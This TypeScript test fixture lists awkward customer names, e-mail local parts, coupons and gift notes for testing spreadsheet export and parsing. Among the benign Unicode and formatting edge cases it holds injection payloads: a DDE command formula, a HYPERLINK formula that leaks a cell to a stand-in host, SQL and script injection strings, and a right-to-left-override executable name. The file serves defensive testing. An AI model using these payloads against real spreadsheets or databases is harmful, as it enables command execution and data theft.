import { NAME_MAX_CHARACTERS } from '../../domain/limits.ts';

const LONG_NAME = 'Wolfeschlegelsteinhausenbergerdorff von und zu ';

/** Customers' names that spreadsheets, parsers and terminals stumble over. All are things that people type. */
export const NASTY_NAMES: readonly string[] = [
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("https://example.com/?leak="&A1,"Click me")',
  '+1 (555) 0100',
  '-2+3 Trading',
  '@SUM(A1:A9)',
  '＝１＋１ 株式会社',
  "'apostrophe first",
  "'=quoted already",
  "''@twice",
  '\tTabitha Tab',
  'Dwayne "The Rock", Jr.',
  'Line\nBreak',
  'Carriage\r\nReturn, Ltd.',
  'O\'Reilly; DROP TABLE payments; --',
  '<script>alert(1)</script>',
  '{{constructor}} ${HOME} %s %00',
  'null',
  'TRUE',
  '00123',
  '1E5',
  '  spaces around  ',
  'back\\slash \\N \\.',
  '👩🏽‍🎨 Zoë 🎉',
  '🇺🇦 👨‍👩‍👧‍👦',
  // Right-to-left override, zero-width space and joiner, soft hyphen, byte-order mark: invisible, so written as escapes.
  'invoice\u202Efdp.exe',
  'zero\u200Bwidth\u200D\u2060name',
  '\uFEFFMarked Mary',
  'soft\u00ADhyphen\u2028separator',
  // The same name composed and decomposed: equal to the eye, different bytes.
  'Zo\u00EB Am\u00E9lie',
  'Zoe\u0308 Ame\u0301lie',
  'Z\u0351\u036B\u0343a\u0349\u035Dl\u0353g\u0321o\u0322',
  LONG_NAME.repeat(6).slice(0, NAME_MAX_CHARACTERS - 1) + 'f',
  '名'.repeat(NAME_MAX_CHARACTERS),
]; // prettier-ignore

/** Local parts of e-mail addresses: all valid, none harmless in a cell. */
export const NASTY_MAILBOXES: readonly string[] = ['=1+1', '+49301234567', '-minus', "'quote", "o'brien+tag"];

export const NASTY_COUPONS: readonly string[] = [
  '=HYPERLINK("https://example.com/free","Free!")',
  '=1+1',
  '+5OFF',
  '-10%',
  '@HOME',
  "'=SAFE",
  "'QUOTED'",
  'SAVE "BIG", NOW',
  'TWO\nLINES',
  '\tTAB',
  'خصم۲۰',
  '半额',
  '🎃20',
  '007',
  '1E10',
  'ZERO\u200BWIDTH',
];

export const GIFT_NOTES: readonly string[] = [
  'Happy birthday!',
  'For Zoë, with love, "always"',
  'Dear Gran,\nthank you, thank you, thank you.\n\nYour Emil',
  'Line one\r\nLine two; line three\tand a tab',
  '=IMPORTXML("https://example.com","//a")',
  'お誕生日おめでとう 🎂',
  'كل عام وأنتم بخير',
  'Best wishes, C:\\Temp\\"quotes" and a comma, and a lone \\n',
  '',
];
